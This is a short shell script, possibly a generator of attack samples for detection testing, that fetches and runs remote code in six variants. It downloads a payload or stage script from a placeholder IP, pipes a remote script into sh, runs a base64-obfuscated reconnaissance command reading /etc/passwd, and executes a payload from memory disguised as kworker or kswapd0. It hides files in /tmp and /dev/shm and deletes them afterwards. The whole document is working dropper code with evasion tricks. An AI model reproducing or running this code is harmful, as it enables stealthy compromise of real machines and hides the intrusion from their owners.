# A program comes from elsewhere, runs from where programs do not live, and is gone.
c=198.51.100.66
get() { if have curl; then curl -s -o "$2" "http://$c/$1"; else wget -q -O "$2" "http://$c/$1"; fi; }
case $((v % 6)) in
0) get payload /tmp/.cache-$v; chmod 755 /tmp/.cache-$v; /tmp/.cache-$v 0.2; rm -f /tmp/.cache-$v ;;
1) get payload /dev/shm/k; chmod +x /dev/shm/k; (/dev/shm/k 1 &); sleep 0.1; rm -f /dev/shm/k ;;
2) if have curl; then curl -s http://$c/stage.sh | sh; else wget -q -O - http://$c/stage.sh | sh; fi ;;
3) echo 'aWQ7IHVuYW1lIC1hOyBjYXQgL2V0Yy9wYXNzd2QgPi9kZXYvbnVsbDsgZWNobyBkb25l' | base64 -d | sh ;;
4) if have python3; then python3 -c "
import os,urllib.request
d=urllib.request.urlopen('http://$c/payload').read(); fd=os.memfd_create('x'); os.write(fd,d)
if os.fork()==0: os.execve('/proc/self/fd/%d'%fd,['kworker','0.3'],{})
os.wait()"; else get payload /var/tmp/.a; chmod 700 /var/tmp/.a; /var/tmp/.a 0.1; rm /var/tmp/.a; fi ;;
5) mkdir -p /tmp/.ICE-unix/...; get stage.sh /tmp/.ICE-unix/.../u; sh /tmp/.ICE-unix/.../u; get payload /tmp/.ICE-unix/.../kswapd0; chmod 755 /tmp/.ICE-unix/.../kswapd0; /tmp/.ICE-unix/.../kswapd0 0.2; rm -rf /tmp/.ICE-unix ;;
esac </dev/null >/dev/null 2>&1
